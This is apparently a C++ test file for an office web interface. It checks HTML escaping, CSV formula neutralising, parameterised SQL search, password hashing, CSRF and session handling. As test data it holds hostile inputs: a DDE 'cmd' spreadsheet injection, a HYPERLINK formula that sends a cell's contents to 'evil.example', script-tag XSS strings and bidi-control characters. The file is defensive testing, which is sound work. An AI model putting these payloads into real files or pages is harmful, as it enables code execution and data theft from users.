// The office UI without a server: its pages from hostile records (nothing a person typed
// becomes markup, in lists, profiles, confirmation pages or the audit log), the CSV and JSON
// exports (quoting, formula neutralising, one column per field and group item), the search
// index taken from a record and the SQL filter built from a query, the login's password
// hashing, CSRF comparison, sessions' expiry and the growing delay after wrong passwords.
#include <catch2/catch.hpp>
#include <regex>
#include <set>

#include "base/bytes.h"
#include "domain/form_library.h"
#include "hub/record_index.h"
#include "hub/web/export.h"
#include "hub/web/office_auth.h"
#include "hub/web/office_pages.h"
#include "support/csv.h"
#include "support/hostile_records.h"
#include "support/temp_dir.h"

using namespace sichtbar;
using namespace sichtbar::hub;
using namespace sichtbar::hub::web;
using nlohmann::json;
using std::chrono::seconds;

namespace {

// Every published version of the real form, as the hub loads them.
const FormLibrary& skills_forms() {
  static const FormLibrary forms = *FormLibrary::load(form_folder(test::asset(""), kProfileFormId));
  return forms;
}

const PageTexts& texts() {
  static const PageTexts t = *PageTexts::load(test::asset("i18n"));
  return t;
}

const OccupationList& occupations() {
  static const OccupationList list = *OccupationList::load(test::asset(""));
  return list;
}

OfficeContext context() { return {skills_forms(), texts(), occupations()}; }

const OfficeTexts& office_texts() {
  static const OfficeTexts t = *OfficeTexts::load(test::asset("i18n"));
  return t;
}

const OfficeLayout kLayout{office_texts(), "anna", "csrf-token-of-the-session", "records"};

RecordSummary summary(const json& record, std::uint8_t id = 1) {
  RecordSummary s;
  s.record_id.fill(id);
  s.device_id.fill(0xd0);
  s.received_at_ms = 1'795'900'000'000;
  s.record_json = record.dump(-1, ' ', false, json::error_handler_t::replace);
  return s;
}

const std::set<std::string> kOfficeTags = {
    "html",  "head",  "meta",    "title",    "link",    "body", "header", "nav",     "ul",
    "li",    "a",     "form",    "input",    "span",    "bdi",  "button", "main",    "h1",
    "h2",    "p",     "select",  "option",   "label",   "div",  "table",  "caption", "thead",
    "tbody", "tr",    "th",      "td",       "section", "dl",   "dt",     "dd",      "ol",
    "code",  "small", "article", "textarea", "strong"};

void check_office_page(const std::string& html) {
  test::check_no_markup_got_through(html, kOfficeTags, {"/office/", "/assets/", "#main"});
}

}  // namespace

TEST_CASE("a CSV cell is quoted, and one that starts a formula is neutralised") {
  CHECK(csv_cell("Elektriker") == "\"Elektriker\"");
  CHECK(csv_cell("say \"hi\"; then go") == "\"say \"\"hi\"\"; then go\"");
  CHECK(csv_cell("line one\r\nline two") == "\"line one\r\nline two\"");
  for (const std::string start : {"=", "+", "-", "@", "\t", "\r"}) {
    INFO("starts with byte " << int(start[0]));
    CHECK(csv_cell(start + "HYPERLINK(\"http://evil\")") ==
          "\"'" + start + "HYPERLINK(\"\"http://evil\"\")\"");
  }
  CHECK(csv_cell("a=1") == "\"a=1\"");  // only the first character matters
  CHECK(csv_cell("") == "\"\"");
}

TEST_CASE("the CSV export has a BOM, one column per field and group item, and reads back") {
  json a = test::fixture_record("de");
  a["answers"]["about"]["name"] = "Amanuel \"Ami\" Tesfaye; Jr.";
  a["answers"]["work"]["items"] = json::array(
      {{{"occupation", "7411"}, {"job_title", "Elektriker"}, {"tasks", "Kabel\nverlegen"}},
       {{"occupation", "2211"}, {"job_title", "=cmd|' /C calc'!A0"}}});
  json b = test::fixture_record("ar");
  b["answers"]["about"]["name"] = "رانيا الحسن";
  b["answers"]["work"]["items"] = json::array({{{"occupation", "5321"}}});
  const std::vector<RecordSummary> records = {summary(a, 1), summary(b, 2)};
  const std::string csv = records_csv(skills_forms(), records);
  REQUIRE(csv.starts_with(kUtf8Bom));
  const auto rows = test::parse_office_csv(csv);
  REQUIRE(rows.size() == 3);
  const auto& header = rows[0];
  CHECK(rows[1].size() == header.size());
  CHECK(rows[2].size() == header.size());
  const auto column = [&](const std::string& name) {
    auto it = std::find(header.begin(), header.end(), name);
    REQUIRE(it != header.end());
    return static_cast<std::size_t>(it - header.begin());
  };
  CHECK(rows[1][column("record_id")] == to_hex(records[0].record_id));
  CHECK(rows[1][column("about.name")] == "Amanuel \"Ami\" Tesfaye; Jr.");
  CHECK(rows[2][column("about.name")] == "رانيا الحسن");
  CHECK(rows[1][column("work.items[1].occupation")] == "7411");
  CHECK(rows[1][column("work.items[1].tasks")] == "Kabel\nverlegen");
  CHECK(rows[1][column("work.items[2].occupation")] == "2211");
  CHECK(rows[1][column("work.items[2].job_title")] == "'=cmd|' /C calc'!A0");
  CHECK(rows[2][column("work.items[1].occupation")] == "5321");
  CHECK(rows[2][column("work.items[2].occupation")] == "");  // b has one item only
  CHECK(std::find(header.begin(), header.end(), "work.items[3].occupation") == header.end());
  CHECK(rows[1][column("event.name")] == "Infoabend Augsburg");
  CHECK(rows[1][column("locale")] == "de");
  CHECK(rows[1][column("consent")] == "contact, keep_profile");
  CHECK(rows[1][column("received_at")] == "2026-11-28T21:06:40Z");
}

TEST_CASE("the CSV of records from several versions keeps a field the newest version dropped") {
  // Version 2 without about.phone: a version 1 record's phone still has its column, right
  // after the field it followed in version 1 (place_of_residence).
  Form v1 = *load_form(test::asset("forms/skills-profile/1.json"));
  Form v2 = *load_form(test::fixture("forms/skills-profile-2.json"));
  auto& about = v2.sections[1].fields;
  REQUIRE(v2.sections[1].id == "about");
  about.erase(
      std::find_if(about.begin(), about.end(), [](const Field& f) { return f.id == "phone"; }));
  const FormLibrary forms = *FormLibrary::from_forms({v1, v2});
  // (Its person agreed to be contacted: without that, the phone's cell is empty.)
  const RecordSummary old_row = summary(json{{"form", {{"id", "skills-profile"}, {"version", 1}}},
                                             {"consent", {{"purposes", {{"contact", true}}}}},
                                             {"answers", {{"about", {{"phone", "0821 123456"}}}}}},
                                        1);
  const RecordSummary new_row =
      summary(json{{"form", {{"id", "skills-profile"}, {"version", 2}}},
                   {"answers", {{"about", {{"district", "Lechhausen"}}}}}},
              2);
  const std::vector<RecordSummary> both = {old_row, new_row};
  const CsvTable table = records_table(forms, both);
  const auto at = [&](const std::string& name) {
    return std::find(table.header.begin(), table.header.end(), name) - table.header.begin();
  };
  REQUIRE(at("about.phone") < static_cast<std::ptrdiff_t>(table.header.size()));
  CHECK(at("about.phone") == at("about.place_of_residence") + 1);
  CHECK(at("about.district") == at("about.phone") + 1);
  CHECK(at("about.email") == at("about.district") + 1);
  CHECK(table.rows[0][at("about.phone")] == "0821 123456");
  CHECK(table.rows[1][at("about.phone")] == "");
  CHECK(table.rows[1][at("about.district")] == "Lechhausen");
  // Only version 2's records: no column for the dropped field.
  const std::vector<RecordSummary> only_new = {new_row};
  const CsvTable newer = records_table(forms, only_new);
  CHECK(std::find(newer.header.begin(), newer.header.end(), "about.phone") == newer.header.end());
}

TEST_CASE("hostile input is neutralised in every CSV cell and kept whole in JSON") {
  for (std::size_t pick = 0; pick < test::kHostile.size(); ++pick) {
    json r = test::hostile_record(pick);
    r["answers"]["about"]["name"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")";
    r["answers"]["wishes"]["region"] = "+SUM(1,2)";
    r["answers"]["skills"]["other"] = "-2+3";
    r["answers"]["education"]["items"][0]["title"] = "@SUM(A1)";
    r["answers"]["work"]["items"][0]["job_title"] = "\tTAB";
    const std::vector<RecordSummary> records = {summary(r)};
    const std::string csv = records_csv(skills_forms(), records);
    for (const auto& row : test::parse_office_csv(csv))
      for (const std::string& cell : row) {
        INFO("cell " << cell);
        CHECK(!(cell.starts_with("=") || cell.starts_with("+") || cell.starts_with("-") ||
                cell.starts_with("@") || cell.starts_with("\t") || cell.starts_with("\r")));
      }
    CHECK(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klick\"\")\"") !=
          std::string::npos);
    const json back = json::parse(records_json(records));
    REQUIRE(back.size() == 1);
    CHECK(back[0]["record"]["answers"]["about"]["name"] == r["answers"]["about"]["name"]);
    CHECK(back[0]["record_id"] == to_hex(records[0].record_id));
  }
}

TEST_CASE("no office page lets a person's text become markup") {
  for (std::size_t pick = 0; pick < test::kHostile.size(); ++pick) {
    INFO("rotation " << pick);
    json r = test::hostile_record(pick);
    const RecordSummary s = summary(r);
    RecordFilter filter;
    filter.text = "\"><script>alert(9)</script>";
    filter.event_id = test::kHostile[pick];
    RecordFacets facets;
    facets.events.push_back(
        {test::kHostile[pick], test::kHostile[(pick + 1) % 9], "2026-11-28", 1});
    facets.countries = {test::kHostile[(pick + 2) % 9]};
    facets.occupations = {"7411", test::kHostile[(pick + 3) % 9]};
    facets.languages = {test::kHostile[(pick + 4) % 9]};
    RecordPage page;
    page.total = 1;
    page.rows = {s};
    const std::string list = render_records_page(context(), kLayout, {filter, facets, page, ""});
    check_office_page(list);
    CHECK(list.find("&quot;&gt;&lt;script&gt;alert(9)&lt;/script&gt;") != std::string::npos);
    const std::string profile = render_record_page(context(), kLayout, s, test::kHostile[pick]);
    check_office_page(profile);
    CHECK(profile.find("/office/records/" + to_hex(s.record_id) + "/erase") != std::string::npos);
    // The coding of a typed occupation: the person's words, what was searched and a coding of a
    // URI this hub does not know (shown as it is) stay text.
    const std::vector<OccupationCoding> codings = {
        {s.record_id, "work.items.0", test::kHostile[(pick + 5) % 9], "anna", 1}};
    const std::string coded_profile =
        render_record_page(context(), kLayout, s, test::kHostile[pick], codings);
    check_office_page(coded_profile);
    const TypedOccupation typed{"work.items.0", test::kHostile[pick]};
    const std::vector<CodingSuggestion> suggestions = {{"http://data.europa.eu/esco/occupation/x",
                                                        test::kHostile[(pick + 6) % 9], "7411",
                                                        "Elektroinstallateure", "yes", "title"}};
    check_office_page(render_coding_page(
        context(), kLayout,
        {to_hex(s.record_id), typed, test::kHostile[(pick + 7) % 9], suggestions, &codings[0]}));
    check_office_page(
        render_erase_page(kLayout, to_hex(s.record_id), person_name(r), test::kHostile[pick]));
    Device d;
    d.name = test::kHostile[pick];
    check_office_page(render_kiosks_page(kLayout, {{d, {}}}));
    check_office_page(render_revoke_page(kLayout, d));
    check_office_page(render_audit_page(
        kLayout, {{1, test::kHostile[pick], "erase", test::kHostile[(pick + 1) % 9],
                   test::kHostile[(pick + 2) % 9]}}));
    check_office_page(render_login_page(office_texts(), test::kHostile[pick],
                                        test::kHostile[(pick + 1) % 9], "n"));
  }
}

TEST_CASE("the office's profile view shows answers by their German labels and occupation names") {
  json r = test::fixture_record("ar");
  r["answers"]["work"]["items"][0]["occupation"] = "7411";
  r["answers"]["about"]["country_of_origin"] = "AF";
  const std::string page = render_record_page(context(), kLayout, summary(r), "Stand 1");
  CHECK(page.find("<html lang=\"de\" dir=\"ltr\">") != std::string::npos);
  CHECK(page.find("Elektriker/in") != std::string::npos);  // ISCO 7411 by its name
  CHECK(page.find(">Afghanistan<") != std::string::npos);
  CHECK(page.find("Stand 1") != std::string::npos);
  // Every POST form of the office carries the session's CSRF token.
  for (const std::string& html :
       {page, render_erase_page(kLayout, "00", "x", ""), render_revoke_page(kLayout, Device{})}) {
    std::size_t forms = 0, at = 0;
    while ((at = html.find("method=\"post\"", at)) != std::string::npos) {
      ++forms;
      const auto end = html.find("</form>", at);
      CHECK(html.substr(at, end - at).find("name=\"csrf\" value=\"csrf-token-of-the-session\"") !=
            std::string::npos);
      at = end;
    }
    CHECK(forms >= 1);
  }
}

TEST_CASE(
    "hidden characters in stored text are shown, not obeyed, in CSV cells and option labels") {
  const std::string rlo = "\u202E", nul(1, '\0'), esc = "\x1b";
  const std::string cell = csv_cell("Rania" + rlo + "gpj.exe" + nul + esc + "[31m\u0085x\nline 2");
  CHECK(cell.find(rlo) == std::string::npos);
  CHECK(cell.find(nul) == std::string::npos);
  CHECK(cell.find(esc) == std::string::npos);
  CHECK(cell.find("\u0085") == std::string::npos);
  CHECK(cell.find("Rania\uFFFDgpj.exe\uFFFD\uFFFD[31m\uFFFDx\nline 2") != std::string::npos);

  // The filter's choices come from stored records: an option label cannot isolate its text.
  RecordFacets facets;
  facets.events.push_back({"e1", "Infoabend " + rlo + "evil" + esc, "2026-11-28", 1});
  facets.countries = {"S" + rlo + "Y"};
  RecordFilter filter;
  filter.event_id = "chosen" + rlo;
  const std::string html =
      render_records_page(context(), kLayout, {filter, facets, RecordPage{}, ""});
  for (std::size_t at = html.find("<option"); at != std::string::npos;
       at = html.find("<option", at + 1)) {
    // The label; the value attribute is not shown and must come back as it was.
    const std::size_t label = html.find('>', at) + 1;
    const std::string option = html.substr(label, html.find("</option>", at) - label);
    INFO(option);
    CHECK(option.find(rlo) == std::string::npos);
    CHECK(option.find(esc) == std::string::npos);
  }
  CHECK(html.find("Infoabend \uFFFDevil\uFFFD") != std::string::npos);
}

TEST_CASE(
    "the quarantine page: kiosk, number, time and reason in the office's words, nothing obeyed") {
  QuarantinedEnvelope q;
  q.id.fill(0xab);
  q.device_id.fill(0xd0);
  q.seq = 41;
  q.received_at_ms = 1'795'900'000'000;
  q.reason = "record.bidi_control: 1 answer needs attention: about.name: \u202E<script>x";
  QuarantinedEnvelope other = q;
  other.id.fill(0xcd);
  other.reason = "something.new: \u202E";
  const std::string html = render_quarantine_page(
      kLayout,
      {{q, "Stand \u202E1 <b>"}, {other, office_texts().text("office.record.kiosk_unknown")}});
  check_office_page(html);
  INFO(html);
  CHECK(html.find("\u202E") == std::string::npos);  // never raw, not even inside a bdi
  CHECK(html.find(office_texts().text("office.quarantine.reason.bidi_control")) !=
        std::string::npos);
  CHECK(html.find(office_texts().text("office.quarantine.reason.other")) != std::string::npos);
  CHECK(html.find("<td>41</td>") != std::string::npos);
  CHECK(html.find("2026-11-28") != std::string::npos);
  CHECK(html.find(to_hex(q.device_id)) != std::string::npos);
  // Release and Discard are POST forms carrying the session's CSRF token.
  const std::string id = to_hex(q.id);
  for (const std::string action : {"release", "discard"}) {
    const std::string form =
        "<form method=\"post\" action=\"/office/quarantine/" + id + "/" + action + "\">";
    const auto at = html.find(form);
    REQUIRE(at != std::string::npos);
    CHECK(html.find("name=\"csrf\" value=\"csrf-token-of-the-session\"", at) <
          html.find("</form>", at));
  }
  CHECK(render_quarantine_page(kLayout, {}).find(office_texts().text("office.quarantine.none")) !=
        std::string::npos);
}

TEST_CASE("the filter form keeps its choices, labels every field and links exports to the filter") {
  RecordFilter f;
  f.text = "Elektriker München";
  f.country = "AF";
  f.occupation = "7411";
  f.wants_advice = true;
  f.isco_major = "7";
  f.regulated = "self_employment";
  f.procedure = "equivalence";
  RecordFacets facets;
  facets.countries = {"AF", "SY"};
  facets.occupations = {"7411"};
  RecordPage page;
  page.total = 120;
  f.limit = 50;
  f.offset = 50;
  const std::string html = render_records_page(context(), kLayout, {f, facets, page, ""});
  CHECK(html.find("<option value=\"AF\" selected=\"selected\">Afghanistan</option>") !=
        std::string::npos);
  CHECK(html.find("<option value=\"SY\">Syrien</option>") != std::string::npos);
  CHECK(html.find("<option value=\"yes\" selected=\"selected\">ja</option>") != std::string::npos);
  CHECK(html.find("<option value=\"7\" selected=\"selected\">7 Handwerks- und verwandte "
                  "Berufe</option>") != std::string::npos);
  CHECK(html.find("<option value=\"self_employment\" selected=\"selected\">") != std::string::npos);
  CHECK(html.find("<option value=\"equivalence\" selected=\"selected\">"
                  "Gleichwertigkeitsfeststellung</option>") != std::string::npos);
  const std::string query =
      "q=Elektriker%20M%C3%BCnchen&country=AF&occupation=7411&advice=yes&major=7&"
      "regulated=self_employment&procedure=equivalence";
  CHECK(filter_query(f) == query);
  // In the page's attributes, & is written &amp;.
  const std::string in_html = std::regex_replace(query, std::regex("&"), "&amp;");
  CHECK(html.find("href=\"/office/export.csv?" + in_html + "\"") != std::string::npos);
  CHECK(html.find("Seite 2 von 3") != std::string::npos);
  CHECK(html.find("href=\"/office/records?" + in_html + "&amp;page=3\"") != std::string::npos);
  // A choice from a link that no stored record has any more still shows as chosen, as text.
  RecordFilter gone;
  gone.event_id = "<b>alter-abend</b>";
  const std::string gone_html = render_records_page(context(), kLayout, {gone, facets, page, ""});
  CHECK(gone_html.find("<option value=\"&lt;b&gt;alter-abend&lt;/b&gt;\" selected=\"selected\">"
                       "&lt;b&gt;alter-abend&lt;/b&gt;</option>") != std::string::npos);
  // Every input and select has a label that names it.
  const std::regex control("<(input|select|textarea) [^>]*id=\"([^\"]+)\"");
  for (auto it = std::sregex_iterator(html.begin(), html.end(), control);
       it != std::sregex_iterator(); ++it) {
    INFO("control " << (*it)[2].str());
    CHECK(html.find("<label for=\"" + (*it)[2].str() + "\">") != std::string::npos);
  }
}

TEST_CASE("the search index takes what the office filters by from a record") {
  json r = test::fixture_record("de");
  r["answers"]["about"]["name"] = "Zoë Müller-Çelik";
  r["answers"]["about"]["country_of_origin"] = "SY";
  r["answers"]["work"]["items"] = json::array({{{"occupation", "7411"}}, {{"occupation", "2211"}}});
  r["answers"]["wishes"]["desired_occupation"] = "7411";
  r["answers"]["wishes"]["wants"] = json::array({"job"});
  r["answers"]["education"]["items"] = json::array({{{"wants_advice", false}}});
  r["answers"]["languages"]["mother_tongues"] = json::array({{{"mother_tongue", "ar"}}});
  r["answers"]["languages"]["other_languages"] =
      json::array({{{"language", "en"}, {"level", "B1"}}});
  RecordIndex i = index_record(r.dump());
  CHECK(i.event_id == "e1");
  CHECK(i.event_date == "2026-11-28");
  CHECK(i.country == "SY");
  CHECK(i.occupations == " 7411 2211 ");
  CHECK(i.languages == " ar en ");
  CHECK_FALSE(i.wants_advice);
  CHECK(i.search_text.find(" zoe muller celik ") != std::string::npos);
  CHECK(i.search_text.find(" zoe mueller celik ") != std::string::npos);
  CHECK(i.search_text.find("infoabend augsburg") != std::string::npos);
  r["answers"]["wishes"]["wants"] = json::array({"recognition_advice"});
  CHECK(index_record(r.dump()).wants_advice);
  r["answers"]["wishes"]["wants"] = json::array();
  r["answers"]["education"]["items"] =
      json::array({{{"wants_advice", false}}, {{"wants_advice", true}}});
  CHECK(index_record(r.dump()).wants_advice);
  CHECK(index_record("not json").country.empty());  // indexed as nothing, stored all the same
}

TEST_CASE(
    "the search SQL binds what was typed as parameters, folded, with LIKE's wildcards literal") {
  RecordFilter f;
  f.text = "  MÜLLER 100%_x ";  // folding makes punctuation a word break: "muller 100 x"
  f.occupation = "74%";
  f.wants_advice = false;
  f.date_from = "2026-01-01";
  const SearchSql sql = search_where(f, '$');
  CHECK(sql.where ==
        "i.event_date >= $1 AND i.occupations LIKE $2 ESCAPE '\\' AND i.wants_advice = 0 AND "
        "i.search_text LIKE $3 ESCAPE '\\' AND i.search_text LIKE $4 ESCAPE '\\' AND "
        "i.search_text LIKE $5 ESCAPE '\\'");
  CHECK(sql.params ==
        std::vector<std::string>{"2026-01-01", "% 74\\% %", "% muller%", "% 100%", "% x%"});
  CHECK(search_where({}, '?').where == "1 = 1");
  CHECK(search_where({}, '?').params.empty());
}

TEST_CASE("passwords are stored as argon2id hashes and checked against them") {
  auto hash = hash_password("Kaffee ohne Zucker 7");
  REQUIRE(hash);
  CHECK(hash->starts_with("$argon2id$"));
  CHECK(hash->find("Kaffee") == std::string::npos);
  CHECK(verify_password(*hash, "Kaffee ohne Zucker 7"));
  CHECK_FALSE(verify_password(*hash, "Kaffee ohne Zucker 8"));
  CHECK_FALSE(verify_password("not a hash", "Kaffee ohne Zucker 7"));
  CHECK(*hash != *hash_password("Kaffee ohne Zucker 7"));  // salted
  auto weak = hash_password("kurz");
  REQUIRE_FALSE(weak);
  CHECK(weak.error().code == "office.weak_password");
  CHECK(hash_password("ääääääääää"));   // ten characters, twenty bytes: long enough
  CHECK_FALSE(hash_password("äääää"));  // five characters, ten bytes: too short
  CHECK(valid_user_name("anna.schmidt@amt"));
  CHECK_FALSE(valid_user_name("anna schmidt"));
  CHECK_FALSE(valid_user_name(""));
  CHECK_FALSE(valid_user_name(std::string(65, 'a')));
}

TEST_CASE("a CSRF token matches only itself") {
  CHECK(csrf_matches("abcdef", "abcdef"));
  CHECK_FALSE(csrf_matches("abcdef", "abcdeg"));
  CHECK_FALSE(csrf_matches("abcdef", "abcde"));
  CHECK_FALSE(csrf_matches("abcdef", ""));
  CHECK_FALSE(csrf_matches("", ""));  // a session without a token accepts nothing
}

TEST_CASE("a session ends after 30 idle minutes, after 10 hours in any case, and at logout") {
  OfficeSessions sessions;
  const auto t0 = OfficeSessions::Clock::now();
  const std::string cookie = sessions.create("anna", t0);
  CHECK(cookie.size() == 43);  // 32 random bytes in base64url
  auto s = sessions.find(cookie, t0);
  REQUIRE(s);
  CHECK(s->user == "anna");
  CHECK(s->csrf.size() == 43);
  CHECK_FALSE(sessions.find(cookie + "x", t0));
  CHECK_FALSE(sessions.find("", t0));
  // Used every 20 minutes it stays alive, until the tenth hour.
  auto t = t0;
  for (int i = 0; i < 29; ++i) {
    t += std::chrono::minutes(20);
    CHECK(sessions.find(cookie, t));
  }
  t += std::chrono::minutes(20);  // 10 h
  CHECK(sessions.find(cookie, t));
  CHECK_FALSE(sessions.find(cookie, t + std::chrono::minutes(1)));
  // Idle for more than 30 minutes: gone.
  const std::string idle = sessions.create("ben", t0);
  CHECK(sessions.find(idle, t0 + std::chrono::minutes(30)));
  CHECK_FALSE(sessions.find(idle, t0 + std::chrono::minutes(61)));
  const std::string ended = sessions.create("cem", t0);
  sessions.end(ended);
  CHECK_FALSE(sessions.find(ended, t0));
  CHECK(sessions.create("anna", t0) != sessions.create("anna", t0));
}

TEST_CASE("wrong passwords close the door for longer each time, per name and per address") {
  LoginThrottle throttle;
  auto t = LoginThrottle::Clock::now();
  // Three attempts cost nothing.
  for (int i = 0; i < kFreeFailures; ++i)
    CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(0));
  // The fourth is admitted and closes the door for a second, the fifth for two...
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(0));
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(1));
  // ... for the name from any address (a second connection does not help) ...
  CHECK(throttle.admit("anna", "10.0.0.2", t) == seconds(1));
  // ... and for the address with any name; others are not held up.
  CHECK(throttle.admit("bob", "10.0.0.1", t) == seconds(1));
  CHECK(throttle.admit("cem", "10.0.0.3", t) == seconds(0));
  // Waiting opens it for one attempt; each failure doubles the wait.
  t += seconds(1);
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(0));
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(2));
  t += seconds(2);
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(0));
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(4));
  CHECK(LoginThrottle::delay_after(kFreeFailures) == seconds(0));
  CHECK(LoginThrottle::delay_after(kFreeFailures + 1) == seconds(1));
  CHECK(LoginThrottle::delay_after(kFreeFailures + 5) == seconds(16));
  CHECK(LoginThrottle::delay_after(100) == kMaxLoginDelay);
  // The right password clears both counts.
  t += seconds(4);
  CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(0));
  throttle.succeeded("anna", "10.0.0.1");
  for (int i = 0; i < kFreeFailures; ++i)
    CHECK(throttle.admit("anna", "10.0.0.1", t) == seconds(0));
}
